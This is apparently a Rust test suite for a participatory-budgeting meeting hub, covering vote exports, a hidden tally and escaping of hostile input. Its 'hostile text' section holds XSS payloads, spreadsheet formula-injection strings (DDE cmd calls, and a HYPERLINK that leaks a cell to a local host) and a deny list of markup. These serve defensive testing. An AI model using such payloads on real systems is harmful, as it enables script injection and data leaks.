    let hub = Hub::start(&data, &[]).unwrap();
    let mut org = Client::connect(&hub.url(), &token(&sheet, &["organiser"])).await.unwrap();
    for p in ["check_in", "discussion", "picks", "pitches", "voting"] {
        ack(&mut org, cmd::advance(p)).await;
    }
    for (t, c) in voter_tokens(&sheet).iter().zip([&["P05", "P06"][..], &["P05"], &["P07"], &["P06", "P07"]]) {
        let mut v = Client::connect(&hub.url(), t).await.unwrap();
        ack(&mut v, cmd::ballot(c)).await;
        v.close().await;
    }
    for n in 0..2 {
        let mut c = Client::connect(&hub.url(), sheet["counters"][n]["token"].as_str().unwrap()).await.unwrap();
        ack(&mut c, json!({"kind": "key_board", "board": 1, "counts": {"P08": 9, "P05": 2}})).await;
        c.close().await;
    }
    ack(&mut org, cmd::advance("counted")).await;
    let export = export(&data).unwrap();
    assert_eq!(export["results"]["stickers"], 11);
    let pb = dir.path().join("stickers.pb");
    std::fs::write(&pb, export_bytes(&data, "pabulib", dir.path())).unwrap();
    let text_pb = std::fs::read_to_string(&pb).unwrap();
    assert!(text_pb.contains("\nrule;greedy-custom\n"), "{text_pb}");
    assert!(text_pb.contains("11 votes came from stickers on 1 board (per proposal: P08 9, P05 2)"), "{text_pb}");
    assert!(text_pb.contains("\nnum_votes;4\n"), "only real ballots are voters");
    let p08 = text_pb.lines().find(|l| l.starts_with("P08;")).unwrap();
    assert_eq!(p08.split(';').nth(2), Some("0"), "PROJECTS votes are the ballots' own: {p08}");
    let report = check_pabulib(&pb, &export, dir.path());
    assert!(report.contains("checked by pabulib-checker only"), "{report}");

    let notice = String::from_utf8(export_bytes(&data, "notice", dir.path())).unwrap();
    assert!(notice.contains("1 块展板共 11 张贴纸"), "the notice counts the stickers");
    let xlsx = export_bytes(&data, "xlsx", dir.path());
    let mut book = Xlsx::new(std::io::Cursor::new(xlsx)).unwrap();
    assert!(book.sheet_names().contains(&"贴纸 Stickers".to_string()));
    let s = book.worksheet_range("贴纸 Stickers").unwrap();
    let rows: Vec<Vec<String>> = s.rows().skip(2).map(|r| r.iter().map(text).collect()).collect();
    assert_eq!(rows.len(), 2, "{rows:?}");
    assert!(rows.iter().any(|r| r[1] == "P08" && r[3] == "9"), "{rows:?}");
}

// ---------------------------------------------------------------- hostile text

/// What someone hostile might type into a meeting file, a proposal list or an
/// adviser's note: markup that runs script when opened, and spreadsheet
/// formulas.
const H_SCRIPT: &str = "<script>window.__pwned=1</script>";
const H_IMG: &str = "\"><img src=x onerror=\"window.__pwned=1\">";
const H_LINK: &str = "=HYPERLINK(\"http://127.0.0.1:9/leak?\"&A1,\"点我\")";
const H_CMD: &str = "+cmd|' /C calc'!A0";
const H_SUM: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const H_MINUS: &str = "-2+3+cmd|' /C calc'!A0";

fn toml_str(s: &str) -> String {
    format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""))
}

fn csv_field(s: &str) -> String {
    format!("\"{}\"", s.replace('"', "\"\""))
}

/// A meeting whose every free text is hostile; returns the data folder and
/// the token sheet.
fn hostile_meeting(dir: &Path, rules: &str) -> (PathBuf, Value) {
    let proposals = [
        ("P01", H_LINK, H_SCRIPT, H_CMD, H_IMG, 10_000),
        ("P02", H_CMD, H_IMG, H_SUM, H_SCRIPT, 20_000),
        ("P03", H_SUM, H_LINK, H_SCRIPT, H_CMD, 15_000),
        ("P04", H_SCRIPT, H_SUM, H_IMG, H_LINK, 12_000),
        ("P05", H_IMG, H_MINUS, H_LINK, H_SUM, 30_000),
        ("P06", H_MINUS, H_CMD, H_MINUS, H_MINUS, 8_000),
    ];
    let mut csv = String::from("id,title,description,location,category,proposer,cost\n");
    for (id, title, location, category, proposer, cost) in proposals {
        csv.push_str(&format!(
            "{id},{},{},{},{},{},{cost}\n",
            csv_field(title),
            csv_field(&format!("{title} {H_SCRIPT}")),
            csv_field(location),
            csv_field(category),
            csv_field(proposer),
        ));
    }
    std::fs::write(dir.join("hostile.csv"), csv).unwrap();
    let file = dir.join("hostile.toml");
    std::fs::write(
        &file,
        format!(
            "[meeting]\nname = {}\nvenue = {}\ndate = {}\nproposals = \"hostile.csv\"\n\n[rules]\ntable_names = [{}, {}, {}]\n\
             picks_per_table = 1\nmax_choices = 3\n{rules}\n\n[rules.budget]\namount = 40000\ncurrency = {}\n",
            toml_str(&format!("幸福里{H_SCRIPT}")),
            toml_str(H_IMG),
            toml_str(H_LINK),
            toml_str(H_SCRIPT),
            toml_str(H_IMG),
            toml_str(H_LINK),
            toml_str("<img src=x onerror=window.__pwned=1>元"),
        ),
    )
    .unwrap();
    let data = dir.join("hostile-data");
    let text = create_meeting(&data, &file, 6).unwrap();
    (data, serde_json::from_str(&text).unwrap())
}

/// No markup from the meeting's text in a document: no element that could
/// run anything, the hostile text shown as text, and the document's own
/// policy in front.
fn assert_inert(what: &str, html: &str) {
    for bad in ["<script", "<img", "<iframe", "<svg", "<a ", "javascript:"] {
        assert!(!html.to_ascii_lowercase().contains(bad), "{what} holds {bad}");
    }
    assert!(html.contains("&lt;script&gt;window.__pwned=1&lt;/script&gt;"), "{what}: the hostile text, as text");
    let head = &html[..html.find("<style>").expect("a style sheet")];
    assert!(
        head.contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'sha256-"),
        "{what}: its own policy before anything else: {head}"
    );
}

/// Every cell of a CSV as a spreadsheet reads it: none may start like a formula.
fn assert_no_formula_cells(what: &str, text: &str) -> Vec<Vec<String>> {
    let body = text.strip_prefix('\u{feff}').expect("UTF-8 with a byte order mark");
    let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(body.as_bytes());
    let rows: Vec<Vec<String>> = r.records().map(|rec| rec.unwrap().iter().map(str::to_string).collect()).collect();
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\0']),
                "{what}: a cell a spreadsheet would evaluate: {cell:?}"
            );
        }
    }
    rows
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_text_in_every_field_stays_text_in_the_notice_the_letters_the_csv_and_the_workbook() {
    let dir = tempfile::tempdir().unwrap();
    let (data, sheet) = hostile_meeting(dir.path(), "");
    let hub = Hub::start(&data, &[]).unwrap();
    let secret = token(&sheet, &["organiser"]);
    let mut org = Client::connect(&hub.url(), &secret).await.unwrap();
    ack(&mut org, cmd::open()).await;
    let mut adviser = Client::connect(&hub.url(), &token(&sheet, &["adviser_all"])).await.unwrap();
    ack(
        &mut adviser,
        json!({"kind": "annotate", "proposal": "P02", "feasibility": "excluded", "exclusion_rule": 2,
               "reason": H_SCRIPT, "remark": format!("{H_IMG} {H_LINK}"), "cost_estimate": 21000}),
    )
    .await;
    ack(
        &mut adviser,
        json!({"kind": "annotate", "proposal": "P01", "feasibility": "doubtful", "reason": H_SUM, "remark": H_CMD}),
    )
    .await;
    for p in ["discussion", "picks", "pitches", "voting"] {
        ack(&mut org, cmd::advance(p)).await;
    }
    let choices: [&[&str]; 6] =
        [&["P01", "P02"], &["P01", "P03"], &["P05", "P01"], &["P04"], &["P03", "P05"], &["P02", "P06"]];
    for (t, c) in voter_tokens(&sheet).iter().zip(choices) {
        let mut v = Client::connect(&hub.url(), t).await.unwrap();
        ack(&mut v, cmd::ballot(c)).await;
        v.close().await;
    }
    ack(&mut org, cmd::advance("counted")).await;

    // The notice and the letters: escaped, with a policy of their own.
    let notice = String::from_utf8(export_bytes(&data, "notice", dir.path())).unwrap();
    assert_inert("the notice", &notice);
    assert!(notice.contains("&lt;img src=x onerror=window.__pwned=1&gt;元"), "the currency, as text");
    assert_eq!(get(hub.port, "/notice", &[]).await.unwrap().text(), notice, "/notice is the same document");
    let letters = String::from_utf8(export_bytes(&data, "letters", dir.path())).unwrap();
    assert_inert("the letters", &letters);
    assert!(letters.contains("<section class=\"letter\" data-proposal=\"P02\""), "the excluded proposal's letter");
    for text in [H_IMG, H_LINK, H_CMD] {
        let escaped = text.replace('&', "&amp;").replace('"', "&quot;").replace('\'', "&#39;").replace('<', "&lt;");
        let escaped = escaped.replace('>', "&gt;");
        assert!(letters.contains(&escaped), "the letters quote {text} as text");
    }
    assert!(letters.contains("&lt;img src=x onerror=window.__pwned=1&gt;元"), "the currency, as text");
    let auth = format!("Bearer {secret}");
    let printed = get(hub.port, "/api/admin/letters.html", &[("Authorization", &auth)]).await.unwrap();
    assert_eq!(printed.text(), letters, "the console prints the same letters");

    // The CSV, in both languages: no cell a spreadsheet would evaluate, the
    // text kept after the quote that says "text".
    for lang in ["zh", "en"] {
        let text = hub_cmd(&["export", "--data", data.to_str().unwrap(), "--format", "csv", "--lang", lang]).unwrap();
        let rows = assert_no_formula_cells(&format!("CSV ({lang})"), &text);
        let titles: Vec<&str> = rows[1..].iter().map(|r| r[3].as_str()).collect();
        for t in [H_LINK, H_CMD, H_SUM, H_MINUS] {
            assert!(titles.contains(&format!("'{t}").as_str()), "{lang}: {t} neutralised in {titles:?}");
        }
        assert!(titles.contains(&H_SCRIPT) && titles.contains(&H_IMG), "harmless text is kept as it is");
        assert!(rows[1..].iter().any(|r| r[4] == format!("'{H_CMD}")), "locations too");
    }
    let served = get(hub.port, "/api/admin/export.csv", &[("Authorization", &auth)]).await.unwrap();
    assert_no_formula_cells("the console's CSV", &served.text());

    // The workbook: every hostile text a string cell, no formula anywhere.
    let bytes = export_bytes(&data, "xlsx", dir.path());
    let mut book = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
    let mut strings = vec![];
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).unwrap();
        let found: Vec<&String> = formulas.used_cells().map(|(_, _, f)| f).filter(|f| !f.is_empty()).collect();
        assert!(found.is_empty(), "sheet {name} holds formulas: {found:?}");
        let range = book.worksheet_range(&name).unwrap();
        strings.extend(range.used_cells().filter_map(|(_, _, d)| match d {
            Data::String(s) => Some(s.clone()),
            _ => None,
        }));
    }
    for t in [H_LINK, H_CMD, H_SUM, H_MINUS, H_SCRIPT] {
        assert!(strings.iter().any(|s| s == t), "{t} is a string cell, as typed");
    }
    assert!(strings.iter().any(|s| s.contains(&format!("幸福里{H_SCRIPT}"))), "the meeting's name");
}

// ---------------------------------------------------------------- hidden tally

/// Every per-proposal count or mark in a message from the hub, as "path:
/// value" (empty when there is none). `own_desk`: a counter's own copies are
/// theirs to see.
fn counts_in(v: &Value, own_desk: Option<u64>, path: &str, out: &mut Vec<String>) {
    match v {
        Value::Object(m) => {
            if let (Some(d), Some(c)) = (own_desk, m.get("counter").and_then(Value::as_u64)) {
                if d == c && m.contains_key("unit") {
                    return;
                }
            }
            for (k, x) in m {
                let here = format!("{path}.{k}");
                // Counts and marks are lists and maps; `"tally": "hidden_until_close"` is a rule.
                let empty = match x {
                    Value::Array(a) => a.is_empty(),
                    Value::Object(o) => o.is_empty(),
                    _ => true,
                };
                match k.as_str() {
                    // A voter's own ballot is theirs.
                    "my_ballot" => continue,
                    "tally" | "results" | "marks" | "counts" | "choices" | "ranking" if !empty => {
                        out.push(format!("{here}: {x}"))
                    }
                    _ => counts_in(x, own_desk, &here, out),
                }
            }
        }
        Value::Array(a) => {
            for (i, x) in a.iter().enumerate() {
                counts_in(x, own_desk, &format!("{path}[{i}]"), out);
            }
        }
        _ => {}
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hidden_tally_reaches_no_role_and_no_export_before_the_close() {
    let dir = tempfile::tempdir().unwrap();
    let rules =
        "[rules]\ntables = 6\nmax_choices = 3\ntally = \"hidden_until_close\"\n\n[rules.budget]\namount = 100000\n";
    let (data, sheet) = meeting(dir.path(), "隐藏计票", rules, 6);
    let hub = Hub::start(&data, &[]).unwrap();
    let secret = token(&sheet, &["organiser"]);
    let mut org = Client::connect(&hub.url(), &secret).await.unwrap();
    ack(&mut org, cmd::open()).await;
    for p in ["discussion", "picks", "pitches", "voting"] {
        ack(&mut org, cmd::advance(p)).await;
    }

    // Every role connects before anything is counted, and listens.
    let voters = voter_tokens(&sheet);
    let roles: Vec<(String, String, Option<u64>)> = vec![
        ("organiser".into(), secret.clone(), None),
        ("chair".into(), token(&sheet, &["tables", "0", "chair"]), None),
        ("recorder".into(), token(&sheet, &["tables", "1", "recorder"]), None),
        ("adviser".into(), token(&sheet, &["tables", "2", "adviser"]), None),
        ("adviser_all".into(), token(&sheet, &["adviser_all"]), None),
        ("scrutineer".into(), token(&sheet, &["scrutineers", "0"]), None),
        ("counter 1".into(), token(&sheet, &["counters", "0"]), Some(1)),
        ("counter 2".into(), token(&sheet, &["counters", "1"]), Some(2)),
        ("counter 3".into(), token(&sheet, &["counters", "2"]), Some(3)),
        ("projector".into(), token(&sheet, &["projector"]), None),
        ("public".into(), "public".into(), None),
        ("voter".into(), voters[5].clone(), None),
    ];
    let mut listeners = vec![];
    for (name, t, desk) in &roles {
        let c = Client::connect(&hub.url(), t).await.unwrap_or_else(|e| panic!("{name}: {e}"));
        assert_eq!(c.snapshot().phase, Phase::Voting, "{name}");
        listeners.push((name.clone(), c, *desk, vec![]));
    }

    // Phone ballots, a paper batch keyed twice (its marks), a sticker board read twice.
    for (t, c) in voters.iter().take(4).zip([&["P07", "P08"][..], &["P07"], &["P08", "P09"], &["P07", "P09"]]) {
        let mut v = Client::connect(&hub.url(), t).await.unwrap();
        ack(&mut v, cmd::ballot(c)).await;
        v.close().await;
    }
    let mut counters = vec![];
    for n in 0..2 {
        counters.push(Client::connect(&hub.url(), sheet["counters"][n]["token"].as_str().unwrap()).await.unwrap());
    }
    for c in &mut counters {
        for (number, marks) in
            [("301", vec!["P10", "P11"]), ("302", vec!["P10"]), ("303", vec!["P11", "P12", "P13", "P14"])]
        {
            ack(c, json!({"kind": "key_paper", "batch": 1, "number": number, "marks": marks})).await;
        }
        ack(c, json!({"kind": "finish_paper", "batch": 1})).await;
        ack(c, json!({"kind": "key_board", "board": 1, "counts": {"P12": 9, "P13": 4}})).await;
    }
    let mut obs = Client::connect(&hub.url(), &token(&sheet, &["scrutineers", "1"])).await.unwrap();
    ack(&mut obs, json!({"kind": "declare_sheets", "batch": 1, "sheets": 3})).await;
    // A last entry that every connection hears: then each has heard everything before it.
    let last = ack(&mut org, json!({"kind": "start_timer", "label": "计票", "minutes": 5})).await;
    let last_seq = last["seq"].as_u64().expect("the entry's seq");
    for (name, c, desk, heard) in &mut listeners {
        heard.push(c.welcome.clone());
        while c.snapshot().seq < last_seq {
            let m = c.recv(Duration::from_secs(15)).await.unwrap_or_else(|e| panic!("{name}: {e}"));
            heard.push(m);
        }
        let mut found = vec![];
        for m in heard.iter() {
            counts_in(m, *desk, "", &mut found);
        }
        assert!(found.is_empty(), "{name} received per-proposal counts before the close: {found:#?}");
    }
    // …while a counter's own copy is whole (re-keying needs it).
    let own = &listeners.iter().find(|l| l.0 == "counter 1").unwrap().1;
    assert!(own.snapshot().paper_copies.iter().any(|c| c.ballots.iter().any(|b| b.marks == ["P10", "P11"])));
    let scrutineer = &listeners.iter().find(|l| l.0 == "scrutineer").unwrap().1;
    let desk = scrutineer.snapshot().paper.as_ref().expect("the scrutineer sees the desk");
    assert!(desk.marks_hidden && desk.batches[0].status == PaperStatus::Agreed);
    assert_eq!(desk.batches[0].ballots.iter().filter(|b| b.void.is_some()).count(), 1, "verdicts are shown");
    assert_eq!(scrutineer.snapshot().paper_copies.len(), 4, "every copy's progress, without marks");

    // Every export: the JSON without counts, the rest refused.
    let x = export(&data).unwrap();
    assert_eq!((x["tally_hidden"].as_bool(), x["tally"].is_null(), x["results"].is_null()), (Some(true), true, true));
    assert_eq!(x["turnout"]["ballots"], 7, "the turnout is not hidden");
    let mut found = vec![];
    counts_in(&x, None, "export.json", &mut found);
    assert!(found.is_empty(), "the JSON export shows counts: {found:#?}");
    for format in ["csv", "log", "xlsx", "notice", "letters", "pabulib"] {
        let out = dir.path().join(format!("refused.{format}"));
        let r = Command::new(bin("hub"))
            .args(["export", "--data", data.to_str().unwrap(), "--format", format, "--out", out.to_str().unwrap()])
            .output()
            .unwrap();
        assert!(!r.status.success() && !out.exists(), "{format} is refused");
        let why = String::from_utf8_lossy(&r.stderr);
        assert!(why.contains("hidden_until_close") && why.contains("投票结束"), "{format}: {why}");
    }
    let auth = format!("Bearer {secret}");
    let json = get(hub.port, "/api/admin/export.json", &[("Authorization", &auth)]).await.unwrap();
    assert_eq!(json.json().unwrap(), x, "the console's JSON is the CLI's");
    for path in ["export.csv", "export.xlsx", "export.pb", "notice.html", "letters.html"] {
        let r = get(hub.port, &format!("/api/admin/{path}"), &[("Authorization", &auth)]).await.unwrap();
        assert_eq!((r.status, r.json().unwrap()["code"].as_str()), (409, Some("tally_hidden")), "{path}");
    }
    assert_eq!(get(hub.port, "/notice", &[]).await.unwrap().status, 404);
    let board = get(hub.port, "/api/board", &[]).await.unwrap().json().unwrap();
    let mut found = vec![];
    counts_in(&board, None, "board", &mut found);
    assert!(found.is_empty(), "the public board shows counts: {found:#?}");

    // The close reveals everything, to everyone who may see it.
    ack(&mut org, cmd::advance("counted")).await;
    for (name, c, _, _) in &mut listeners {
        c.wait_until(Duration::from_secs(15), |s| s.phase == Phase::Counted && s.results.is_some())
            .await
            .unwrap_or_else(|e| panic!("{name}: {e}"));
    }
    let scrutineer = &mut listeners.iter_mut().find(|l| l.0 == "scrutineer").unwrap().1;
    scrutineer
        .wait_until(Duration::from_secs(15), |s| {
            s.paper.as_ref().is_some_and(|p| !p.marks_hidden && p.boards[0].counts.get("P12") == Some(&9))
                && s.paper_copies.iter().all(|c| c.ballots.iter().all(|b| !b.marks.is_empty()))
        })
        .await
        .unwrap();
    let x = export(&data).unwrap();
    assert_eq!((x["tally_hidden"].as_bool(), x["tally"]["P07"].as_u64()), (Some(false), Some(3)));
    assert_eq!((x["tally"]["P10"].as_u64(), x["tally"]["P12"].as_u64()), (Some(2), Some(9)), "paper and stickers");
    for format in ["csv", "log", "xlsx", "notice", "letters"] {
        export_bytes(&data, format, dir.path());
    }
}
